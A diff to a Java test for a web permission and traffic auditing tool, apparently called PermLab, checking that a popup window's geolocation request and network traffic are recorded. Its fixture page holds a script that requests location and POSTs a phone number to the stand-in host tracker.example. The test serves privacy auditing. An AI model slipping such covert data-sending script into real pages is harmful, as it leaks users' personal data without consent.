@@ -19,6 +19,9 @@ import static org.assertj.core.api.Assertions.assertThat;
  * held the run until its ceiling, twice (the run and its retry, 600 s), for a function that had simply failed. Now the
  * run ends as the step is decided, and its timeline says a window was opened that PermLab did not follow. In real
  * Chromium through 'permlab run', with a 30 s run ceiling so that a hang fails the test quickly.
+ * <p>
+ * What the window the flow does not drive asks for and sends is still the run's: the map window asks for the location
+ * and posts the phone number to a tracker, and both had gone unrecorded.
  */
 @Timeout(value = 3, unit = TimeUnit.MINUTES)
 class PopupWindowTest {
@@ -26,7 +29,10 @@ class PopupWindowTest {
             + "addEventListener('message', function (e) { document.getElementById('msg').id = 'done'; });"
             + "document.getElementById('open').onclick = function () { window.open('/map.html?phone=13812345678', '_blank'); };"
             + "</script></body></html>";
-    private static final String MAP = "<!doctype html><html><body><p>map</p></body></html>";
+    private static final String MAP = "<!doctype html><html><body><p>map</p><script>"
+            + "navigator.geolocation.getCurrentPosition(function () {}, function () {});"
+            + "fetch('http://tracker.example:' + location.port + '/t', {method: 'POST', body: 'mobile=13812345678'});"
+            + "</script></body></html>";
 
     @TempDir
     static Path dir;
@@ -36,7 +42,7 @@ class PopupWindowTest {
     static void runIt() throws Exception {
         Path device = DeviceProfileFile.withCeilings(dir, "short-runs", "{\"runMs\": 30000}");
         run = CliRun.run(dir.resolve("out"), List.of(H5Target.in(dir.resolve("targets"), "popup").served("popup.example")
-                .page("index.html", INDEX).page("map.html", MAP)
+                .alsoServed("tracker.example").page("index.html", INDEX).page("map.html", MAP).page("t", "ok")
                 .flow(flow("{\"open\": \"/index.html\"}", "{\"tap\": {\"css\": \"#open\"}, \"start\": true}",
                         "{\"checkpoint\": {\"css\": \"#done\"}, \"timeoutMs\": 3000}"))
                 .write()), "--device", device.toString());
@@ -61,6 +67,23 @@ class PopupWindowTest {
             String url = e.getAsJsonObject("details").get("url").getAsString();
             assertThat(url).contains("/map.html").doesNotContain("13812345678");
             assertThat(e.getAsJsonObject("details").get("followed").getAsString()).isEqualTo("no");
+            assertThat(e.getAsJsonObject("details").get("observed").getAsString()).isEqualTo("requests and traffic");
         });
+    }
+
+    @Test
+    void thePermissionRequestOfTheOpenedWindowIsRecorded() {
+        assertThat(RunReport.objects(baseline().json().getAsJsonArray("requests"))).anySatisfy(q -> {
+            assertThat(q.get("permission").getAsString()).isEqualTo("geolocation");
+            assertThat(q.get("frameUrl").getAsString()).contains("/map.html");
+        });
+    }
+
+    @Test
+    void theTrafficOfTheOpenedWindowIsRecorded() {
+        List<String> sent = RunReport.objects(baseline().json().getAsJsonArray("exchanges")).stream()
+                .map(e -> e.get("method").getAsString() + " " + e.get("url").getAsString().replaceAll(":\\d+/", "/")).toList();
+        assertThat(sent).anySatisfy(u -> assertThat(u).startsWith("GET http://popup.example/map.html"))
+                .contains("POST http://tracker.example/t");
     }
 }
